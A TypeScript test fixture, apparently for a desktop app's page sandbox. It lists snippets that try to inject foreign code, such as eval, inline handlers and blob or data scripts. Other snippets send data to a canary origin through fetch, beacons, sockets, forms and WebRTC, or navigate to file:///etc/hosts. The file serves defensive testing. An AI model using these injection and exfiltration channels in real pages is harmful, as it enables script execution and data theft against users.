/**
 * Attempts to break out of a page, as a script inside it would make them. What runs in vain leaves no trace; code that
 * runs calls `hit` with its name, and what gets out arrives at the canary under its name.
 */
type Attempts = Readonly<Record<string, string>>;

/** Code that the page did not bring. */
export const foreignCode: Attempts = {
  'inline-script': `add('script', { textContent: 'hit("inline-script")' })`,
  'inline-handler': `add('div', { innerHTML: '<img src="no.png" onerror="hit(\\'inline-handler\\')">' })`,
  eval: `eval('hit("eval")')`,
  'function-of-text': `new Function('hit("function-of-text")')()`,
  'timer-of-text': `setTimeout('hit("timer-of-text")')`,
  'javascript-address': `add('a', { href: 'javascript:hit("javascript-address")' }).click()`,
  'data-script': `add('script', { src: 'data:text/javascript,hit("data-script")' })`,
  'blob-script': `add('script', { src: blob('hit("blob-script")') })`,
  'data-module': `import('data:text/javascript,hit("data-module")')`,
  'frame-of-text': `add('iframe', { srcdoc: '<script>parent.hit("frame-of-text")</script>' })`,
  worker: `new Worker(blob('postMessage(1)')).onmessage = () => hit('worker')`,
  'service-worker': `navigator.serviceWorker.register(script).then(() => hit('service-worker'))`,
  'web-assembly': `new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) && hit('web-assembly')`,
};

/** Ways to send something to another origin. */
export const waysOut: Attempts = {
  fetch: `fetch(out('fetch'), { mode: 'no-cors' })`,
  beacon: `navigator.sendBeacon(out('beacon'))`,
  socket: `new WebSocket(out('socket').replace('http', 'ws'))`,
  events: `new EventSource(out('events'))`,
  picture: `new Image().src = out('picture')`,
  background: `add('p', { textContent: 'x' }).style.backgroundImage = 'url(' + out('background') + ')'`,
  font: `new FontFace('f', 'url(' + out('font') + ')').load()`,
  video: `add('video', { src: out('video'), preload: 'auto' })`,
  script: `add('script', { src: out('script') })`,
  module: `import(out('module'))`,
  style: `add('link', { rel: 'stylesheet', href: out('style') })`,
  prefetch: `add('link', { rel: 'prefetch', href: out('prefetch') })`,
  object: `add('object', { data: out('object') })`,
  embed: `add('embed', { src: out('embed') })`,
  frame: `add('iframe', { src: out('frame') })`,
  form: `add('iframe', { name: 'aside' }); add('form', { action: out('form'), method: 'post', target: 'aside' }).submit()`,
};

/** What no policy of content can forbid, and browsers allow every page: the desktop window must forbid it itself. */
export const browserWays: Attempts = {
  peer: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + datagrams }] });
    peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
};

/** Ways to leave for another page, of which the same is true. */
export const leavings: Attempts = {
  location: `location.href = out('location')`,
  file: `location.href = 'file:///etc/hosts'`,
  link: `add('a', { href: out('link'), target: '_blank' }).click()`,
  window: `open(out('window'))`,
  refresh: `add('meta', { httpEquiv: 'refresh', content: '0; url=' + out('refresh') })`,
};

const tools = `
  globalThis.hits ??= [];
  globalThis.hit = (name) => globalThis.hits.push(name);
  const out = (name) => origin + '/' + name;
  const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const script = document.querySelector('script[src]')?.src ?? '/script.js';
  const add = (name, properties) => {
    const element = Object.assign(document.createElement(name), properties);
    document.body.append(element);
    return element;
  };`;

/** Whoever runs code from outside lifts the ban on eval until it returns: the attempts come later. */
const later = (code: string): string => `setTimeout(() => { ${code} });`;

/** A program that makes all attempts at once. */
export const allOf = (
  attempts: Attempts,
  { origin, datagrams }: { readonly origin: string; readonly datagrams: number },
): string =>
  `(() => { const origin = ${JSON.stringify(origin)}, datagrams = ${datagrams}; ${tools}
    ${Object.values(attempts).map(later).join('\n')} })()`;
